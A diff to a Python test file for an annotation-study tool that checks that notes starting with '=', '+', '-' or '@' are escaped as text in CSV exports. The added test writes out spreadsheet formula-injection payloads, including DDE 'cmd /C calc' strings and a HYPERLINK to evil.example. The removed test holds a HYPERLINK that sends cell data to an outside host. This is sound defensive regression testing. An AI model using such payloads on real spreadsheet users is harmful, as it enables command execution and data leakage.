@@ -278,6 +278,30 @@ def test_freeze_is_refused_until_complete_then_binds_every_input(study, s8f, tmp
     assert [p for p in check_binding(semantic, s8f.public, s8f.answers, study.path) if "study_sha256" in p]
 
 
+def test_notes_and_labels_that_a_spreadsheet_would_run_are_written_as_text(study, tmp_path):
+    """An annotator's note is free text (typed, or imported from a tool's export); the queue that the
+    adjudicator opens in a spreadsheet writes a note starting `=`, `+`, `-` or `@` as text (a
+    leading `'`), as every CSV microctx writes (csvout)."""
+    from microctx._io.csvout import unescape_cell
+
+    simulate(study, truth_for(study, 61), {"ann": good(0.6), "ben": good(0.6), "cat": good(0.6)}, seed=62)
+    labels = annotator_labels(study)
+    queued = [i for i in status(study)["queue"] if "ann" in study.items[i]["annotators"]]
+    formulas = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', '+HYPERLINK("http://evil.example")', "-2+3"]
+    given = tmp_path / "notes.csv"
+    given.write_text(
+        "item,label,note\n"
+        + "".join(
+            f'{item},{labels[item]["ann"]},"{note.replace(chr(34), chr(34) * 2)}"\n' for item, note in zip(queued, formulas)
+        )
+    )
+    assert cli("study", "annotate", study.path, "--annotator", "ann", "--from", given).returncode == 0
+    queue = cli("study", "queue", study.path)
+    notes = {r["item"]: r["notes"] for r in csv.DictReader(queue.stdout.splitlines())}
+    for item, note in zip(queued, formulas):
+        assert notes[item] == "'" + note and unescape_cell(notes[item]) == note
+
+
 def test_lexical_rule_against_gold_recovers_the_planted_precision(study, tmp_path):
     from semantic_sim import P_YES
 
@@ -506,29 +530,6 @@ def test_study_options_out_of_range_are_one_line(study, tmp_path, argv, said):
     run = cli("study", *[a.format(dir=study.path, out=out) for a in argv])
     assert run.returncode == 2 and run.stderr.count("\n") == 1 and said in run.stderr, run.stderr
     assert not out.exists() and ev.read(study.events_path) == []
-
-
-def test_notes_that_look_like_formulas_are_text_in_the_queue_csv(study):
-    """An annotator's note is free text and `study queue` is opened in a spreadsheet: a note
-    starting with `=` or `@` was written as it is (a formula the spreadsheet runs); now every text
-    cell goes through the one CSV escape (microctx._io.csvout), and reads back as given."""
-    from microctx._io.csvout import unescape_cell
-
-    name = sorted(study.items)[0]
-    first, second = study.items[name]["annotators"][:2]
-    note = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
-    ev.append(
-        study.events_path,
-        [
-            {"annotator": first, "item": name, "kind": "label", "label": "yes", "note": note, "guideline_version": "1"},
-            {"annotator": second, "item": name, "kind": "label", "label": "no", "note": "@SUM(1)", "guideline_version": "1"},
-        ],
-    )
-    run = cli("study", "queue", study.path)
-    assert run.returncode == 0, run.stderr
-    (row,) = [r for r in csv.DictReader(run.stdout.splitlines()) if r["item"] == name]
-    assert not row["notes"].startswith(("=", "@")) and unescape_cell(row["notes"]) in (f"{note} / @SUM(1)", f"@SUM(1) / {note}")
-    assert row["notes"].startswith("'")
 
 
 @pytest.mark.parametrize(
